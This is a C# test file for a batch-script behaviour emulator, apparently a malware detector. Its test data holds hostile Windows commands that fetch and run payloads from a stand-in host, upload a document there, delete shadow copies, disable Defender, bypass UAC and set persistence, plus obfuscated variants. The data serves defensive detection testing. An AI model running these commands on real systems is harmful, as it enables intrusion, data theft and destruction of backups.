using System.Text;
using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.Batch;

public sealed class BatchEmulatorTests
{
    [Theory]
    [InlineData("certutil -urlcache -split -f http://a.test/x.exe %TEMP%\\x.exe", BehaviourKind.Download, "T1105")]
    [InlineData("bitsadmin /transfer j /download /priority high http://a.test/x.exe C:\\x.exe", BehaviourKind.Download, "T1105")]
    [InlineData("curl -s -o x.exe https://a.test/x.exe & x.exe", BehaviourKind.Execute, "T1204.002")]
    [InlineData("curl -sLo x.bat https://a.test/x && call x.bat", BehaviourKind.Execute, "T1059.003")]
    [InlineData("mshta http://a.test/x.hta", BehaviourKind.Execute, "T1218.005")]
    [InlineData("regsvr32 /s /n /u /i:http://a.test/x.sct scrobj.dll", BehaviourKind.Execute, "T1218.010")]
    [InlineData("msiexec /q /i http://a.test/x.msi", BehaviourKind.Execute, "T1218.007")]
    [InlineData("rundll32 C:\\Users\\Public\\a.dll,Start", BehaviourKind.Execute, "T1218.011")]
    [InlineData("rundll32.exe \\\\192.0.2.7@80\\s\\a.dll,Start", BehaviourKind.Download, "T1570")]
    [InlineData("vssadmin.exe Delete Shadows /All /Quiet", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("wmic shadowcopy delete", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("bcdedit /set {default} recoveryenabled No", BehaviourKind.DisableRecovery, "T1490")]
    [InlineData("wbadmin delete catalog -quiet", BehaviourKind.DisableRecovery, "T1490")]
    [InlineData("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /t REG_SZ /d \"C:\\x.exe\" /f", BehaviourKind.Persist, "T1547.001")]
    [InlineData("reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d cmd.exe /f", BehaviourKind.Elevate, "T1548.002")]
    [InlineData("fodhelper.exe", BehaviourKind.Elevate, "T1548.002")]
    [InlineData("schtasks /create /sc minute /mo 5 /tn u /tr \"%APPDATA%\\u.exe\"", BehaviourKind.Persist, "T1053.005")]
    [InlineData("net stop WinDefend", BehaviourKind.DisableDefence, "T1562.001")]
    [InlineData("taskkill /f /im MsMpEng.exe", BehaviourKind.DisableDefence, "T1562.001")]
    [InlineData("netsh advfirewall set allprofiles state off", BehaviourKind.DisableDefence, "T1562.004")]
    [InlineData("net user help P4ss /add", BehaviourKind.Persist, "T1136.001")]
    [InlineData("copy %~f0 \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat\"", BehaviourKind.Persist, "T1547.001")]
    [InlineData("forfiles /p c:\\windows /m notepad.exe /c \"cmd /c mshta http://a.test/x\"", BehaviourKind.Execute, "T1202")]
    [InlineData("conhost --headless powershell -c \"iwr http://a.test/x -outfile y.exe\"", BehaviourKind.Download, "T1105")]
    [InlineData("wmic process call create \"mshta http://a.test/x\"", BehaviourKind.Execute, "T1218.005")]
    [InlineData("curl -F file=@C:\\Users\\user\\Documents\\a.docx https://a.test/up", BehaviourKind.Exfiltrate, "T1041")]
    [InlineData("echo open a.test> f.txt\r\necho get x.exe>> f.txt\r\nftp -s:f.txt\r\nstart x.exe", BehaviourKind.Execute, "T1204.002")]
    [InlineData("echo TVqQAAMAAAAEAAAA>a.b64\r\ncertutil -decode a.b64 a.exe", BehaviourKind.Drop, "T1140")]
    public void What_a_line_does_is_told(string source, BehaviourKind kind, string technique)
    {
        var report = Emulated.Run(ScriptLanguage.Batch, source + "\r\n", "run.bat");

        Assert.True(report.Has(kind, technique), report.Told());
    }

    [Theory]
    [InlineData("m^s^h^t^a h^ttp://a.test/x")]
    [InlineData("set a=ms\r\nset b=hta\r\n%a%%b% http://a.test/x")]
    [InlineData("set s=xatmhs.p\r\n%s:~3,1%%s:~5,1%%s:~4,1%%s:~2,1%%s:~1,1% http://a.test/x")]
    [InlineData("set s=mZshtZa http://a.test/x\r\n%s:Z=%")]
    [InlineData("@echo off\r\nsetlocal EnableDelayedExpansion\r\nset x=\r\nfor %%i in (m s h t a) do set x=!x!%%i\r\n!x! http://a.test/x")]
    [InlineData("cmd /c \"cmd /c mshta http://a.test/x\"")]
    [InlineData("cmd.exe /V:ON/C\"set q=mshta&&!q! http://a.test/x\"")]
    [InlineData("for /f \"tokens=2 delims=.\" %%a in (\"x.mshta.y\") do %%a http://a.test/x")]
    [InlineData("for /f \"delims=\" %%a in ('echo mshta') do %%a http://a.test/x")]
    [InlineData("goto b\r\n:a\r\nmshta http://a.test/x\r\nexit /b\r\n:b\r\ncall :a")]
    [InlineData("if not exist c:\\x (\r\n  echo a\r\n  mshta http://a.test/x\r\n) else (\r\n  echo b\r\n)")]
    [InlineData(",;,mshta,http://a.test/x")]
    [InlineData("\"ms\"hta http://a.test/x")]
    [InlineData("echo mshta http://a.test/x | cmd")]
    [InlineData("echo mshta http://a.test/x>r.bat\r\ncall r.bat & rem")]
    [InlineData("pcalua -a mshta -c http://a.test/x")]
    [InlineData("start \"\" /min mshta http://a.test/x")]
    [InlineData("set /a n=1+2*3\r\nif %n%==7 mshta http://a.test/x")]
    [InlineData("%ComSpec% /c start /b mshta http://a.test/x")]
    public void A_hidden_command_is_found(string source)
    {
        var report = Emulated.Run(ScriptLanguage.Batch, source + "\r\n", "run.bat");

        Assert.True(report.Behaviours.Any(seen => seen.Technique == "T1218.005") || report.Payloads.Any(file => Encoding.UTF8.GetString(file.Content.Span).Contains("mshta", StringComparison.Ordinal)), report.Told());
    }

    [Theory]
    [InlineData("cmd /c dir")]
    [InlineData("start https://company.example")]
    [InlineData("@echo off\r\ncd /d %~dp0\r\ngit pull\r\ndotnet build -c Release\r\nif errorlevel 1 goto failed\r\nnpm ci && npm run build\r\ngoto :eof\r\n:failed\r\necho Build failed\r\nexit /b 1")]
    [InlineData("robocopy C:\\Data \\\\nas\\backup\\%COMPUTERNAME% /MIR /LOG:C:\\Logs\\backup.log\r\nif %ERRORLEVEL% GEQ 8 echo failed>>C:\\Logs\\errors.txt")]
    [InlineData("net use Z: \\\\files\\share /persistent:no\r\nnet time \\\\dc01 /set /yes\r\nstart \"\" \"C:\\Program Files\\App\\app.exe\" -x")]
    [InlineData("for %%f in (*.txt) do type %%f >> all.csv\r\npause")]
    [InlineData("tasklist | find \"outlook.exe\" && taskkill /im outlook.exe")]
    [InlineData("powershell -NoProfile -ExecutionPolicy Bypass -File \"%~dp0report.ps1\"")]
    [InlineData("set PATH=%PATH%;C:\\tools\r\nping -n 3 server >nul\r\nipconfig /all > net.txt")]
    [InlineData("wbadmin start backup -backupTarget:E: -include:C:\r\nvssadmin list shadows")]
    public void An_honest_script_tells_nothing(string source) => Assert.Equal("", Emulated.Run(ScriptLanguage.Batch, source + "\r\n", "run.bat").Told());

    [Theory]
    [InlineData(":a\r\ngoto a")]
    [InlineData("for /l %%i in (1,0,2) do echo x")]
    [InlineData("for /l %%i in (1,1,99999999) do for /l %%j in (1,1,99999999) do set x=%%i")]
    [InlineData(":a\r\ncall :a\r\ncall :a")]
    [InlineData("set x=aaaaaaaaaa\r\n:l\r\nset x=%x%%x%%x%%x%\r\ngoto l")]
    [InlineData("((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((")]
    public void A_script_without_end_ends(string source) => Assert.NotNull(Emulated.Run(ScriptLanguage.Batch, source, "run.bat"));

    [Fact]
    public void The_same_source_gives_the_same_log()
    {
        const string Source = "set a=ms\r\n%a%hta http://a.test/x & echo x>a.vbs & wscript a.vbs";

        Assert.Equal(Emulated.Run(ScriptLanguage.Batch, Source, "run.bat").Lines(), Emulated.Run(ScriptLanguage.Batch, Source, "run.bat").Lines());
    }

    [Fact]
    public void Any_text_is_read_to_an_end() => Sources.Check(ScriptLanguage.Batch, ["%", "%a%", "^", "&", "|", "(", ")", "\"", "\r\n", "for /f ", "%%i in (", ") do ", "if ", "==", "else", ":a", "goto a", "call :a", "set a=", "echo ", ">x.bat", "!", "cmd /c ", "1", "~", ","]);
}
